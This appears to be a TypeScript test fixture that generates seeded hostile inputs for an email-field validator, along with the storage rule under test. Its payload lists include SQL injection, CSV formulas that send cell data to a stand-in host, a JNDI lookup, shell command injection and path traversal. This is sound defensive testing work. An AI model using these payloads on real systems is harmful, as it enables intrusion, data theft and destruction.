/**
 * 10,000 values for the email field that nobody means well with, the same at every run.
 *
 * Most are refused. Some are addresses after all, odd as they look: RFC 5322 and the HTML Standard
 * allow `=cmd|'/c@example.com`. Those have to be stored as the text they are, and to do no harm
 * wherever they are shown or exported.
 */
export interface HostileClass {
  readonly id: string;
  /** What it tries. */
  readonly about: string;
  readonly values: readonly unknown[];
}

const PER_CLASS = 500;

/** A small generator with a seed (mulberry32): Math.random would try other strings at each run. */
const randomFrom = (seed: number): (() => number) => {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
};

interface Dice {
  /** 0 … below - 1 */
  below(below: number): number;
  pick<Item>(items: readonly Item[]): Item;
  /** Puts the piece somewhere into the text, never breaking it. */
  insert(text: string, piece: string): string;
}

const dice = (seed: number): Dice => {
  const random = randomFrom(seed);
  const below = (limit: number): number => Math.floor(random() * limit);
  return {
    below,
    pick: (items) => {
      const item = items[below(items.length)];
      if (item === undefined) throw new Error('Nothing to pick from');
      return item;
    },
    insert: (text, piece) => {
      const at = below(text.length + 1);
      return text.slice(0, at) + piece + text.slice(at);
    },
  };
};

/** An address that would be taken, and that no other value has. */
const plain = (id: string, index: number): string => `${id}.${index}@example.com`;
const local = (id: string, index: number): string => `${id}.${index}`;

const points = (from: number, to: number): string[] =>
  Array.from({length: to - from + 1}, (_, offset) => String.fromCodePoint(from + offset));

const SQL = [
  "'; drop table newsletter_subscriptions;--",
  "' or '1'='1",
  "'or'1'='1'--",
  '" or ""="',
  "');delete from contact_messages;--",
  "'||(select version())||'",
  "'||pg_sleep(10)--",
  '$$;select 1;$$',
  "\\'; copy (select 1) to program 'id';--",
  "'union/**/select/**/null--",
  '1;select/**/pg_read_file',
  "e'\\x27",
  '/*!50000select*/',
  "admin'--",
];
const FORMULAS = [
  "=cmd|'/c calc'!A1",
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '＠SUM',
  '";=1+1;"',
  "'=1+1",
  '=',
  '+tag',
  '-dash',
];
const BREAKS = ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u2029', '\v', '\f', '%0d%0a', '\\r\\n'];
const MAIL_HEADERS = [
  'Bcc: all@example.com',
  'To: all@example.com',
  'Content-Type: text/html',
  'Subject: hello',
  '\r\nDATA',
  'RCPT TO:<all@example.com>',
  '.\r\n',
];
const CONTROLS = [...points(0x01, 0x1f), ...points(0x7f, 0x9f)];
const DIRECTIONS = [
  ...points(0x200b, 0x200f),
  ...points(0x202a, 0x202e),
  ...points(0x2060, 0x2064),
  ...points(0x2066, 0x2069),
  '\u00ad',
  '\u061c',
  '\u180e',
  '\ufeff',
];
/**
 * Letters of other scripts that look like ours. The last two become ours in lower case: the Kelvin
 * sign k and the dotted capital I i, and with them somebody else's address.
 */
const LOOKALIKES = [
  ...'аеорсухіјѕԁӏԛԝАВЕКМНОРСТХαινοτυΑΒΕΖΗΙΜΝΟΡΤΧａｂｃｅｏｐ＠．ⅼℯ𝐚𝖻𝘤ɑɡ',
  '\u212a',
  '\u0130',
];
const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '<%=7*7%>',
  '${jndi:ldap://evil.example/a}',
  '%7b%7b7*7%7d%7d',
  '[[${7*7}]]',
  '&lt;b&gt;',
  '</textarea>',
  '`id`',
  '$(reboot)',
  '|id',
  ';ls',
  '../../etc/passwd',
  '..\\..\\windows',
  '%00',
  '%s%n%x',
  '*)(uid=*',
  '||true',
];
const ODD_FORMS = [
  '"quoted local"@example.com',
  'a(comment)@example.com',
  'a@[127.0.0.1]',
  'a@[IPv6:::1]',
  '@a.example,@b.example:c@example.com',
  'a@b@example.com',
  'a%b@example.com',
  'a!b@example.com',
  'Name <a@example.com>',
  '<a@example.com>',
  'mailto:a@example.com',
  'a@example.com?bcc=b@example.com',
  'a@localhost',
  'a@com',
  '@example.com',
  'a@',
  'a',
  '@',
  '',
  ' ',
];
const LISTS = [',', ';', ' ', ', ', ' ; ', '\t', '|', '/', '&', '\u3001', '\uff0c'];
const DOMAINS = [
  '-example.com',
  'example-.com',
  'example..com',
  '.example.com',
  'example.com.',
  'exa_mple.com',
  'exam ple.com',
  'example.com:25',
  'example.com/x',
  'example,com',
  'xn--.com-',
  'bücher.example',
  '127.0.0.1',
  '0x7f.1',
  'example.c-',
  'example.-om',
  `${'d'.repeat(64)}.com`,
  'a.b.c.d.e.f.example.com',
  'xn--bcher-kva.example',
];
const SPACES = [' ', '  ', '\u00a0', '\u2003', '\u3000', '\t', '\n', '\u2009', '\u202f'];

type Make = (roll: Dice, index: number) => unknown;

const CLASSES: readonly (readonly [id: string, about: string, make: Make])[] = [
  ['sql', 'SQL in the address', (r, n) => `${r.pick(SQL)}${local('sql', n)}@example.com`],
  ['sql-after', 'SQL behind an address', (r, n) => plain('sqla', n) + r.pick(SQL)],
  [
    'formula',
    'spreadsheet formulas (CSV injection)',
    (r, n) => `${r.pick(FORMULAS)}${local('csv', n)}@example.com`,
  ],
  [
    'mail-header',
    'line breaks and mail headers',
    (r, n) => plain('head', n) + r.pick(BREAKS) + r.pick(MAIL_HEADERS),
  ],
  [
    'control',
    'control characters, each somewhere',
    (r, n) => r.insert(plain('ctl', n), CONTROLS[n % CONTROLS.length] ?? '\u0001'),
  ],
  ['nul', 'a NUL somewhere', (r, n) => r.insert(plain('nul', n), '\u0000')],
  [
    'overlong',
    'from one letter too long to 100,000',
    (r, n) => {
      const length = n < 250 ? 255 + n : 600 + r.below(n % 50 === 0 ? 99_400 : 5_000);
      return `${'a'.repeat(length - 12)}@example.com`;
    },
  ],
  [
    'labels',
    'local parts around 64 and domain labels around 63 letters',
    (r, n) => {
      const name = `${local('lab', n)}`.padEnd(62 + (n % 5), 'x');
      return `${name}@${'d'.repeat(61 + r.below(5))}.example`;
    },
  ],
  [
    'lookalike',
    'letters that look like others (homographs)',
    (r, n) => r.insert(plain('look', n), r.pick(LOOKALIKES)),
  ],
  [
    'direction',
    'marks that turn the text round or can’t be seen',
    (r, n) => r.insert(plain('dir', n), DIRECTIONS[n % DIRECTIONS.length] ?? '\u202e'),
  ],
  [
    'unicode',
    'random characters of all of Unicode',
    (r, n) => {
      const scalar = (): string => {
        const point = 0xa0 + r.below(0x10_ff00);
        return point >= 0xd800 && point <= 0xdfff ? 'é' : String.fromCodePoint(point);
      };
      const text = Array.from({length: 1 + r.below(12)}, scalar).join('');
      return n % 2 === 0 ? `${text}@example.com` : r.insert(plain('uni', n), text);
    },
  ],
  [
    'emoji',
    'emoji, flags and towers of accents',
    (r, n) =>
      r.insert(
        plain('emo', n),
        r.pick([
          '😀',
          '👩‍⚕️',
          '🏳️‍🌈',
          '🇨🇦',
          'e\u0301',
          `z${'\u0300\u0316\u035c'.repeat(20)}`,
          '\u{e0001}',
        ]),
      ),
  ],
  [
    'half',
    'half characters (lone surrogates)',
    (r, n) => r.insert(plain('half', n), r.pick(['\ud800', '\udbff', '\udc00', '\udfff'])),
  ],
  [
    'markup',
    'HTML, scripts, templates, shell and paths',
    (r, n) => `${r.pick(MARKUP)}${local('mark', n)}@example.com`,
  ],
  [
    'form',
    'forms that mail programs know and lists must not',
    (r, n) => {
      const form = r.pick(ODD_FORMS);
      return form.includes('a') ? form.replace('a', local('odd', n)) : form;
    },
  ],
  [
    'several',
    'several addresses in one field',
    (r, n) =>
      Array.from({length: 2 + r.below(3)}, (_, part) => plain(`sev${part}`, n)).join(r.pick(LISTS)),
  ],
  [
    'domain',
    'domains that are none, and some that are',
    (r, n) => `${local('dom', n)}@${r.pick(DOMAINS)}`,
  ],
  [
    'space',
    'spaces of all kinds, around and inside',
    (r, n) => {
      const space = r.pick(SPACES);
      const address = plain('spc', n);
      const where = n % 3;
      if (where === 0) return space + address + space;
      return where === 1 ? address + space : r.insert(address, space);
    },
  ],
  [
    'twice',
    'an address, and the same in capitals and spaces',
    (_, n) => (n % 2 === 0 ? plain('two', n) : `  ${plain('two', n - 1).toUpperCase()} `),
  ],
  [
    'type',
    'other kinds of JSON: numbers, lists, objects, nothing',
    (r, n) =>
      r.pick<unknown>([
        null,
        true,
        n,
        -n / 7,
        [plain('typ', n)],
        [],
        {},
        {email: plain('typ', n)},
        {toString: 'x'},
        [[[plain('typ', n)]]],
        '\\',
        `"${plain('typ', n)}"`,
      ]),
  ],
];

/** The classes, together 10,000 values. */
export const hostileEmails = (): readonly HostileClass[] =>
  CLASSES.map(([id, about, make], at) => {
    const roll = dice(20_261_121 + at);
    return {id, about, values: Array.from({length: PER_CLASS}, (_, index) => make(roll, index))};
  });

// HTML Standard, 'valid e-mail address', written again here on purpose: the table's own rule is
// what is being tested. A dot in the domain is the table's addition; the lengths are RFC 5321's.
const VALID =
  /^[a-z0-9.!#$%&'*+/=?^_`{|}~-]{1,64}@(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?$/;

/** True for what may stand in the table: an address as it would be stored. */
export const isStorable = (stored: string): boolean =>
  stored.length >= 6 && stored.length <= 254 && VALID.test(stored);

/** What must become of a value: the text as stored, or null when it must be refused. */
export const storedAs = (value: unknown): string | null => {
  if (value === null || value === undefined) return null;
  // Whoever sends no text gets its JSON looked at, as the database does.
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  const normalized = text
    .replace(/^ +| +$/g, '')
    .replace(/[A-Z]/g, (letter) => letter.toLowerCase());
  return isStorable(normalized) ? normalized : null;
};
